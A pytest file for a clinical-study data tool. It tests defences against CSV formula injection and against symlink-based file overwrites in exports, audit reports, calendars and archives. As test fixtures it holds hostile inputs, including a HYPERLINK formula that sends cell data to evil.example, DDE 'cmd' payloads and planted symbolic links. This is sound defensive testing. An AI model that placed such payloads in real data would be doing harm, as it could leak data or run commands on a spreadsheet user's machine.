"""CSVs a coordinator opens in a spreadsheet never carry a live formula; the archive stays exact.

And no export, report or calendar is ever written through a link placed at its path.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import os
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from ltfu.cli import main
from ltfu.db import models as m
from ltfu.errors import LtfuError
from ltfu.services import audit_view, csvsafe
from ltfu.services.archive import restore_archive, write_archive
from ltfu.services.database import open_database
from ltfu.services.demo import build_demo
from ltfu.services.export import export_csv, format_value
from ltfu.services.ical import export_ical
from ltfu.services.records import NewResult, record_result
from ltfu.services.subjects import contact_details, update_contact
from ltfu.services.visits import record_visit_missed

TODAY = dt.date(2026, 11, 29)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Typed into the program by someone who hopes a coordinator opens the export in a spreadsheet.
HOSTILE = {
    "city": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+1 555 0100",
    "alternate_contacts": "\t=1+2",
    "local_physician": "'=already marked by someone",
    "country": "\r\n-2+3",
}
REASON = "-2+3 moved; =1+1"
ASSAY = "qPCR;=1+2"  # a separator a spreadsheet may split on, then a formula
MISSED = "=cmd|' /C calc'!A0"


def _hostile_study(url: str) -> str:
    """A small study holding hostile text in contacts, a reason, an assay and a visit."""
    with open_database(url) as db:
        build_demo(db, subjects=2, seed=3, today=TODAY)
        with db.session() as s:
            study_id = s.scalar(select(m.Subject.study_id).order_by(m.Subject.id).limit(1))
        version = contact_details(db, study_id).row_version
        update_contact(db, study_id, HOSTILE, version, REASON)
        record_result(
            db, study_id, NewResult("il6", TODAY - dt.timedelta(days=3), 12.5, None, "pg/mL", assay=ASSAY), TODAY
        )
        with db.session() as s:
            code = s.scalar(
                select(m.Visit.code)
                .join(m.Subject)
                .where(m.Subject.study_id == study_id, m.Visit.state == "planned", m.Visit.window_end < TODAY)
                .limit(1)
            )
        if code is not None:
            record_visit_missed(db, study_id, code, MISSED, TODAY)
    return study_id


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _types(folder: Path) -> dict[tuple[str, str], str]:
    return {(r[0], r[1]): r[2] for r in _cells(folder / "dictionary.csv")[1:]}


@pytest.fixture(params=["sqlite", "postgresql"])
def url(request, tmp_path) -> str:
    if request.param == "postgresql":
        return request.getfixturevalue("pg_url")
    return f"sqlite:///{tmp_path / 'study.sqlite3'}"


@given(st.text())
def test_the_mark_is_reversible_and_no_cell_starts_a_formula(value):
    cell = csvsafe.safe_text(value)
    assert csvsafe.original(cell) == value
    assert not cell.startswith(STARTS)
    assert cell == value or cell == "'" + value


def test_numbers_keep_their_sign_and_text_that_looks_like_one_is_marked():
    # Numeric columns hold numbers, which cannot carry a formula: -5 stays -5 (documented
    # in the dictionary); the same characters stored as text are text and get the mark.
    assert csvsafe.safe_cells([-5, -1e-05, 3, "-5", None, True], format_value) == [
        "-5",
        "-1e-05",
        "3",
        "'-5",
        "",
        "true",
    ]


def test_every_text_cell_of_the_export_is_safe_and_means_the_stored_text(url, tmp_path):
    _hostile_study(url)
    with open_database(url, migrate=False) as db:
        export_csv(db, tmp_path / "out", with_contacts=True)
        with db.session(read_only=True) as s:
            contact = s.scalar(select(m.Contact).where(m.Contact.city == HOSTILE["city"]))
            assert contact is not None
    folder = tmp_path / "out"
    types = _types(folder)
    seen: set[str] = set()
    for path in sorted(folder.glob("*.csv")):
        rows = _cells(path)
        header = rows[0]
        for row in rows[1:]:
            for column, cell in zip(header, row, strict=True):
                kind = types.get((path.stem, column), "text")
                if kind in ("integer", "number"):
                    float(cell) if cell else None  # a number, its minus sign kept
                else:
                    assert not cell.startswith(STARTS), (path.name, column, cell)
                seen.add(csvsafe.original(cell))
        # Every field quoted: a ';' inside a value cannot start a cell of its own.
        raw = path.read_text(encoding="utf-8")
        assert raw.startswith('"'), path.name
    for value in (*HOSTILE.values(), REASON, ASSAY):
        assert value in seen, value
    contacts = {row[0]: row for row in _cells(folder / "contacts.csv")}
    header = _cells(folder / "contacts.csv")[0]
    row = next(
        r
        for r in contacts.values()
        if r[header.index("city")].endswith('HYPERLINK("http://evil.example/?"&A1,"click")')
    )
    assert row[header.index("city")] == "'" + HOSTILE["city"]
    assert row[header.index("phone")] == "'+1 555 0100"
    assert row[header.index("local_physician")] == "''=already marked by someone"
    assert '"qPCR;=1+2"' in (folder / "results.csv").read_text(encoding="utf-8")
    # The rule is stated where the statistician looks: the dictionary and the README.
    dictionary = _cells(folder / "dictionary.csv")
    assert dictionary[1][:2] == ["*", "*"] and "OWASP" in dictionary[1][5] and "-5 stays -5" in dictionary[1][5]
    assert "OWASP CSV injection" in (folder / "README.txt").read_text(encoding="utf-8")


def test_the_audit_chain_still_checks_from_the_export_once_the_marks_are_removed(tmp_path):
    _hostile_study(f"sqlite:///{tmp_path / 'study.sqlite3'}")
    with open_database(str(tmp_path / "study.sqlite3"), migrate=False) as db:
        export_csv(db, tmp_path / "out", with_contacts=True)  # every entry's values, so every hash checks
    rows = _cells(tmp_path / "out" / "audit_events.csv")
    header, previous, marked = rows[0], "0" * 64, 0
    fields = ("prev_hash", "at", "user_id", "action", "table_name", "record_id", "subject_id", "field")
    for row in rows[1:]:
        cell = dict(zip(header, (csvsafe.original(c) for c in row), strict=True))
        marked += row != [csvsafe.original(c) for c in row]
        payload = "\x1f".join([*(cell[f] for f in fields), cell["old_value"], cell["new_value"], cell["reason"]])
        assert hashlib.sha256(payload.encode("utf-8")).hexdigest() == cell["hash"] and cell["prev_hash"] == previous
        previous = cell["hash"]
    assert marked >= 2  # the hostile reason and values were marked, and the chain still checks


def test_the_audit_trail_csv_is_safe_too(tmp_path):
    study_id = _hostile_study(f"sqlite:///{tmp_path / 'study.sqlite3'}")
    with open_database(str(tmp_path / "study.sqlite3"), migrate=False) as db:
        audit_view.write_audit_csv(db, tmp_path / "audit.csv", study_id, with_contacts=True)
    rows = _cells(tmp_path / "audit.csv")
    assert all(not cell.startswith(STARTS) for row in rows for cell in row)
    reasons = {csvsafe.original(row[rows[0].index("reason")]) for row in rows[1:]}
    assert REASON in reasons and "'" + REASON in {row[rows[0].index("reason")] for row in rows[1:]}


@pytest.mark.parametrize("target", ["sqlite", "postgresql"])
def test_the_handover_archive_keeps_the_exact_values_and_restores_them(target, tmp_path, request):
    source = f"sqlite:///{tmp_path / 'study.sqlite3'}"
    _hostile_study(source)
    with open_database(source, migrate=False) as db:
        write_archive(db, tmp_path / "handover.zip")
        before = _hostile_columns(db)
    with zipfile.ZipFile(tmp_path / "handover.zip") as archive:
        contacts = archive.read("contacts.csv").decode("utf-8")
    assert HOSTILE["city"].replace('"', '""') in contacts and "'" + HOSTILE["city"] not in contacts
    into = request.getfixturevalue("pg_url") if target == "postgresql" else str(tmp_path / "back.sqlite3")
    restored = restore_archive(tmp_path / "handover.zip", into)
    try:
        assert _hostile_columns(restored) == before
    finally:
        restored.dispose()


def _hostile_columns(db) -> list[tuple]:  # type: ignore[no-untyped-def]
    with db.session(read_only=True) as s:
        contacts = s.execute(select(*(getattr(m.Contact, k) for k in sorted(HOSTILE))).order_by(m.Contact.id)).all()
        # The restored database adds one entry of its own ("restore"); the ones before are the same.
        reasons = s.scalars(
            select(m.AuditEvent.reason).where(m.AuditEvent.action != "restore").order_by(m.AuditEvent.id)
        ).all()
        assays = s.scalars(select(m.Result.assay).order_by(m.Result.id)).all()
        changes = s.scalars(select(m.VisitStatusChange.reason).order_by(m.VisitStatusChange.id)).all()
    return [tuple(c) for c in contacts] + [tuple(reasons), tuple(assays), tuple(changes)]


# -- links ------------------------------------------------------------------------------------


@pytest.fixture
def small(tmp_path):
    db = open_database(str(tmp_path / "small.sqlite3"))
    build_demo(db, subjects=2, seed=3, today=TODAY)
    yield db
    db.dispose()


@pytest.fixture
def outside(tmp_path) -> Path:
    victim = tmp_path / "elsewhere" / "precious.txt"
    victim.parent.mkdir()
    victim.write_text("keep me", encoding="utf-8")
    return victim


@pytest.mark.parametrize("planted", ["subjects.csv", "manifest.json", "dictionary.csv", "protocols"])
def test_an_export_never_writes_through_a_link_placed_in_its_folder(small, outside, tmp_path, planted):
    folder = tmp_path / "export"
    export_csv(small, folder)  # an earlier export, then someone plants a link in it
    victim = outside.parent if planted == "protocols" else outside
    link = folder / planted
    if link.is_dir():
        for child in link.iterdir():
            child.unlink()
        link.rmdir()
    else:
        link.unlink()
    link.symlink_to(victim)
    with pytest.raises(LtfuError, match="symbolic link") as refused:
        export_csv(small, folder)
    assert str(link) in str(refused.value)
    assert outside.read_text(encoding="utf-8") == "keep me"
    assert sorted(p.name for p in outside.parent.iterdir()) == ["precious.txt"]


def test_an_export_folder_that_is_a_link_is_refused(small, outside, tmp_path):
    (tmp_path / "out").symlink_to(outside.parent)
    with pytest.raises(LtfuError, match="symbolic link"):
        export_csv(small, tmp_path / "out")
    assert sorted(p.name for p in outside.parent.iterdir()) == ["precious.txt"]


def test_single_files_are_never_written_through_a_link(small, outside, tmp_path, capsys):
    link = tmp_path / "audit.csv"
    link.symlink_to(outside)
    with pytest.raises(LtfuError, match="symbolic link"):
        audit_view.write_audit_csv(small, link)
    ics = tmp_path / "visits.ics"
    ics.symlink_to(outside)
    with pytest.raises(LtfuError, match="symbolic link"):
        export_ical(small, ics, TODAY, TODAY + dt.timedelta(days=30))
    pdf = tmp_path / "report.pdf"
    pdf.symlink_to(outside)
    code = main(["--db", str(tmp_path / "small.sqlite3"), "audit", "--pdf", str(pdf)])
    assert code == 1 and str(pdf) in capsys.readouterr().err
    assert outside.read_text(encoding="utf-8") == "keep me"


def test_a_hard_link_at_the_target_keeps_its_content(small, outside, tmp_path):
    target = tmp_path / "audit.csv"
    os.link(outside, target)
    audit_view.write_audit_csv(small, target)
    assert outside.read_text(encoding="utf-8") == "keep me"
    assert target.read_text(encoding="utf-8").startswith('"entry"')


@pytest.mark.parametrize("command", ["archive", "backup", "export odm"])
def test_copies_of_the_whole_study_are_never_written_through_a_link(small, outside, tmp_path, capsys, command):
    target = tmp_path / "copy.out"
    target.symlink_to(outside)
    code = main(["--db", str(tmp_path / "small.sqlite3"), *command.split(), str(target)])
    assert code == 1 and "symbolic link" in capsys.readouterr().err
    assert outside.read_text(encoding="utf-8") == "keep me"


@pytest.mark.parametrize("command", ["archive", "backup", "export odm"])
def test_a_link_at_a_guessable_temporary_name_is_never_written_through(small, outside, tmp_path, command):
    # The temporary file has a fresh random name (ltfu.safefile), so a link planted at
    # the old fixed name "<target>.part" is never used.
    (tmp_path / "copy.out.part").symlink_to(outside)
    assert main(["--db", str(tmp_path / "small.sqlite3"), *command.split(), str(tmp_path / "copy.out")]) == 0
    assert outside.read_text(encoding="utf-8") == "keep me"
    assert (tmp_path / "copy.out").is_file() and not (tmp_path / "copy.out").is_symlink()


def test_a_replaced_file_keeps_its_privacy_and_a_read_only_one_is_left_alone(small, tmp_path):
    private = tmp_path / "audit.csv"
    private.write_text("old", encoding="utf-8")
    private.chmod(0o600)
    audit_view.write_audit_csv(small, private)
    assert private.stat().st_mode & 0o777 == 0o600 and private.read_text(encoding="utf-8") != "old"
    if os.geteuid() != 0:  # root may write anything
        private.chmod(0o400)
        with pytest.raises(LtfuError, match="read-only"):
            audit_view.write_audit_csv(small, private)


def test_the_owasp_examples_come_out_as_owasp_writes_them():
    buffer = io.StringIO(newline="")
    csvsafe.safe_writer(buffer).writerow([csvsafe.safe_text('=1+2";=1+2'), csvsafe.safe_text("=1+2'\" ;,=1+2")])
    assert buffer.getvalue() == '"\'=1+2"";=1+2","\'=1+2\'"" ;,=1+2"\r\n'


@pytest.mark.parametrize(
    "value", [" =1+2", "\u3000=1+2", "\u00a0@SUM(1)", "＝1+2", "＋1", "＠SUM(1)", "﹦1+2", "|calc"]
)
def test_formula_starts_after_blanks_in_full_width_or_small_forms_and_dde_are_marked(value, tmp_path):
    """These were written bare: a spreadsheet that trims blanks on import, or reads the
    full-width = of a Chinese input method as =, runs them."""
    cell = csvsafe.safe_text(value)
    assert cell == "'" + value
    assert csvsafe.original(cell) == value
    # and through a real export of a stored value
    url = f"sqlite:///{tmp_path / 'study.sqlite3'}"
    with open_database(url) as db:
        build_demo(db, subjects=2, seed=3, today=TODAY)
        with db.session() as s:
            s.execute(m.Result.__table__.update().where(m.Result.id == 1).values(assay=value[:60]))
        export_csv(db, tmp_path / "out")
    text = (tmp_path / "out" / "results.csv").read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + value in cells and value not in cells
